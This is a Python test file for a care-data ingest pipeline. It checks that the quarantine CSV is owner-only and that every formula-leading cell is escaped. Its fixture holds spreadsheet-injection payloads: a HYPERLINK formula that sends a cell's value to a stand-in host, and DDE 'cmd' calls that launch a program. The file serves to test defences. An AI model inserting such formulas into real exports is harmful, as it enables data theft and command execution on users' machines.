"""The quarantine file: owner-only, and no cell of it becomes a formula when opened in Excel."""

from __future__ import annotations

import csv
import datetime as dt
import os
import stat
from pathlib import Path

import pytest

from care_atlas.spreadsheet import FORMULA_LEADS
from ingest.build import build_serving_database
from ingest.keys import DEMO_KEY
from tests.fixtures.serving import make_rows, write_csv_extract

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Click to fix this row")'


@pytest.fixture
def permissive_umask():  # noqa: ANN201
    old = os.umask(0o002)
    yield
    os.umask(old)


def test_quarantine_file_is_owner_only_and_has_no_formulas(
    tmp_path: Path, permissive_umask: None
) -> None:
    rows = make_rows(
        [
            {},
            {"postcode": HYPERLINK},
            {"agreement_id": "=cmd|' /c calc'!A1"},
            {"person_id": "@SUM(1+1)*cmd|' /c calc'!A1"},
            {"weekly_cost": "-185.50"},
            {"element_code": "+OAEHSGCO", "gender": "\t=1+1"},
        ]
    )
    extract = write_csv_extract(tmp_path / "x.csv", rows)
    summary = build_serving_database(
        extract, tmp_path / "s.duckdb", key=DEMO_KEY, as_of=dt.date(2015, 12, 31), progress=False
    )
    assert summary.rows_quarantined == 5
    mode = stat.S_IMODE(summary.quarantine_path.stat().st_mode)
    assert mode == 0o600, oct(mode)
    with summary.quarantine_path.open(newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]
    by_reason = {row[1]: row for row in table[1:]}
    header = table[0]
    assert by_reason["POSTCODE_MALFORMED"][header.index("postcode")] == "'" + HYPERLINK
    assert by_reason["COST_NEGATIVE"][header.index("weekly_cost")] == "'-185.50"
    assert by_reason["AGREEMENT_ID_MALFORMED"][header.index("agreement_id")].startswith("'=cmd")
    assert [int(row[0]) for row in table[1:]] == [2, 3, 4, 5, 6]  # row numbers stay numbers
